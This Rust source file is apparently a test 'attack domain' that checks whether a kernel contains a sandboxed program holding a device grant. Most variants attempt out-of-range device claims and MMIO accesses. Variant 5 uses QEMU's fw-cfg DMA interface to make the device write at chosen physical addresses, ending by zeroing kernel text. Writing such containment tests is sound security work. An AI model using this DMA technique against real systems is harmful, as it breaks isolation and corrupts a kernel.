//! Attack domain (class: device-grant abuse). Its manifest grants one device without an
//! interrupt (the test fixture picks one per board). It claims indices past its grants,
//! waits for an interrupt the grant does not have, and touches the edges of the granted
//! MMIO range; the variant (manifest minor version) picks the out-of-range access that
//! must crash it: 1 `read32(size)`, 2 `read32(usize::MAX - 3)`, 3 `write32(size, 0)`,
//! 4 `read32(size - 2)` (unaligned, straddling the end).
//!
//! Variant 5 (QEMU virt, granted `qemu,fw-cfg-mmio`): the fw-cfg device has a DMA
//! interface (its register at 0x10, big-endian, written high half then low half: the low
//! write starts a transfer). The device reads a `FWCfgDmaAccess` (control, length, address,
//! all big-endian) from the address written there, and copies the selected item to
//! `address` (zero-filling past the item's end). So a safe domain with this grant makes the
//! device write where it likes: first its own heap (proof that the aim works), then the
//! kernel's text at its load address.
#![no_std]
#![no_main]
#![forbid(unsafe_code)]

extern crate alloc;

use alloc::boxed::Box;
use runtime::Device;

/// fw-cfg DMA control bits (QEMU docs/specs/fw_cfg.txt).
const FW_CFG_DMA_READ: u32 = 0x02;
const FW_CFG_DMA_SELECT: u32 = 0x08;
/// The DMA address register of the fw-cfg MMIO interface.
const FW_CFG_DMA: usize = 0x10;
/// Where QEMU virt's kernel text starts (kernel/src/bsp/virt/link.ld).
const KERNEL_TEXT: u64 = 0x4008_0000;

/// Makes the fw-cfg device copy item `selector` (zero-filled past its end) into `len`
/// bytes at physical address `to`; returns the control word the device wrote back (0: ok).
fn fw_cfg_dma(d: &Device, selector: u16, to: u64, len: u32) -> u32 {
    let control = (u32::from(selector) << 16) | FW_CFG_DMA_SELECT | FW_CFG_DMA_READ;
    let mut access = Box::new([0u8; 16]);
    access[0..4].copy_from_slice(&control.to_be_bytes());
    access[4..8].copy_from_slice(&len.to_be_bytes());
    access[8..16].copy_from_slice(&to.to_be_bytes());
    // Taking an address is safe Rust; RAM is identity-mapped, so it is also the device's.
    let at = access.as_ptr() as u64;
    // The register is big-endian: the value the device sees is the byte-swapped store.
    d.mmio.write32(FW_CFG_DMA, ((at >> 32) as u32).swap_bytes());
    d.mmio.write32(FW_CFG_DMA + 4, (at as u32).swap_bytes());
    let access = core::hint::black_box(access);
    u32::from_be_bytes([access[0], access[1], access[2], access[3]])
}

fn fw_cfg_dma_attack(d: &Device) {
    runtime::println!("fw-cfg DMA: aiming the device at its own heap first");
    let target = Box::new([0u8; 16]);
    let to = target.as_ptr() as u64;
    let control = fw_cfg_dma(d, 0x0000, to, 4);
    let target = core::hint::black_box(target);
    runtime::println!(
        "fw-cfg DMA into {to:#x}: control {control:#x}, bytes {:?}",
        core::str::from_utf8(&target[..4]).unwrap_or("(not text)")
    );
    if &target[..4] != b"QEMU" {
        runtime::println!("fw-cfg DMA had no effect: contained");
        return;
    }
    runtime::println!("ESCAPE: the fw-cfg device wrote 'QEMU' at an address this domain chose ({to:#x})");
    runtime::sleep_ms(500);
    runtime::println!("fw-cfg DMA: zeroing 384 KiB of kernel text at {KERNEL_TEXT:#x}");
    runtime::sleep_ms(200);
    let control = fw_cfg_dma(d, 0x0000, KERNEL_TEXT, 0x6_0000);
    runtime::println!("ESCAPE: the kernel's text was zeroed by DMA (control {control:#x}), and the kernel still runs?");
}

fn abuse() {
    let variant = runtime::version().1;
    let beyond = [1u32, 2, 3, 64, 1000, u32::MAX];
    let mut refused = 0;
    for i in beyond {
        match Device::claim(i) {
            None => refused += 1,
            Some(d) => runtime::println!("ESCAPE: claim({i}) granted {} bytes", d.mmio.size()),
        }
    }
    runtime::println!("claims past the grant refused: {refused} of {}", beyond.len());
    let Some(d) = Device::claim(0) else {
        runtime::println!("no grant 0: the fixture must grant one device");
        return;
    };
    let again = Device::claim(0).is_some();
    let size = d.mmio.size();
    if variant == 5 {
        return fw_cfg_dma_attack(&d);
    }
    runtime::println!("grant 0: {size:#x} bytes, interrupt {}, claimed twice {again}", d.has_irq());
    d.irq_done();
    runtime::println!("irq_done on a grant without an interrupt returned");
    let waited = d.wait_irq();
    runtime::println!("wait_irq on a grant without an interrupt returned {waited}");
    let last = d.mmio.read32(size - 4);
    runtime::println!("read32(size-4) fine ({last:#x})");
    let v = match variant {
        1 => d.mmio.read32(size),
        2 => d.mmio.read32(usize::MAX - 3),
        3 => {
            d.mmio.write32(size, 0);
            0
        }
        _ => d.mmio.read32(size - 2),
    };
    runtime::println!("ESCAPE: the out-of-range access of variant {variant} returned {v:#x}");
}

fn init() -> Result<(), &'static str> {
    runtime::spawn("abuse", abuse).map_err(|_| "cannot spawn")
}

runtime::entry!(init);
